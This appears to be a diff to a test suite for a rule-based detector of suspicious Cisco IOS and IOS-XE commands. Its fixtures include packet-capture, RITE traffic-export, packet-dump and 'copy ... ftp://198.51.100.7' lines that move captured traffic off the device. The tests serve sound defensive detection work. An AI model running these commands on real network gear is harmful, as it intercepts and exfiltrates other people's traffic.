@@ -91,6 +91,25 @@ const CASES: Record<string, [CommandEvent, CommandEvent]> = {
   capture_removed: [ev('no monitor capture TEST'), ev('no ip flow monitor FM input', { context: ['interface GigabitEthernet1'] })],
   mirror_recon: [ev('show monitor capture TEST parameter'), ev('show monitor event-trace all-traces')],
   pcap_copied_off_device: [ev('copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap vrf management'), ev('copy running-config tftp://10.1.1.1/r1.cfg')],
+  // fires only on a file the state knows captured packets went to (SETUP below writes it)
+  captured_file_copied: [ev('copy flash:sysdiag.bin tftp:'), ev('copy flash:other.bin tftp:')],
+  // RECONSTRUCTIONS following the IP Traffic Export guide's syntax (INE "The RITE Stuff" example)
+  ios_rite_profile: [ev('ip traffic-export profile R5'), ev('ip flow-export destination 192.168.9.101 9996')],
+  ios_rite_profile_interface: [ev('interface FastEthernet0/0', { context: ['ip traffic-export profile R5'] }), ev('interface FastEthernet0/0')],
+  ios_rite_apply: [ev('ip traffic-export apply R5', { context: ['interface Serial0/0'] }), ev('ip traffic-export profile R5')],
+  ios_rite_activated: [
+    ev('Activated IP traffic export on interface Serial0/0.', { tag: 'RITE-5-ACTIVATE', user: undefined }),
+    ev('Activated IP traffic export on interface Serial0/0.'),
+  ],
+  ios_rite_removed: [ev('no ip traffic-export apply R5', { context: ['interface Serial0/0'] }), ev('ip traffic-export apply R5', { context: ['interface Serial0/0'] })],
+  iosxe_packet_trace_copy: [ev('debug platform packet-trace copy packet both size 2048'), ev('debug platform packet-trace packets 2048 fia-trace circular')],
+  ios_debug_ip_packet_dump: [ev('debug ip packet 101 dump'), ev('debug ip packet 101')],
+  capture_buffer_printed: [ev('show monitor capture CAP buffer dump'), ev('show monitor capture CAP buffer brief')],
+};
+
+/** Lines run first on the same detector, for rules that need the device's state. */
+const SETUP: Record<string, CommandEvent[]> = {
+  captured_file_copied: [ev('monitor capture CAP file location flash:sysdiag.bin')],
 };
 
 describe('every built-in rule', () => {
@@ -111,8 +130,9 @@ describe('every built-in rule', () => {
   for (const [file, [fires, quiet]] of Object.entries(CASES)) {
     it(`${file}: fires on ${show(fires)}, not on ${show(quiet)}`, () => {
       const id = byFile.get(file)!.id;
-      expect(detectOne(fires).map((d) => d.rule)).toContain(id);
-      expect(detectOne(quiet).map((d) => d.rule)).not.toContain(id);
+      const setup = SETUP[file] ?? [];
+      expect(detectAll([...setup, fires]).at(-1)!.map((d) => d.rule)).toContain(id);
+      expect(detectAll([...setup, quiet]).at(-1)!.map((d) => d.rule)).not.toContain(id);
     });
   }
 });
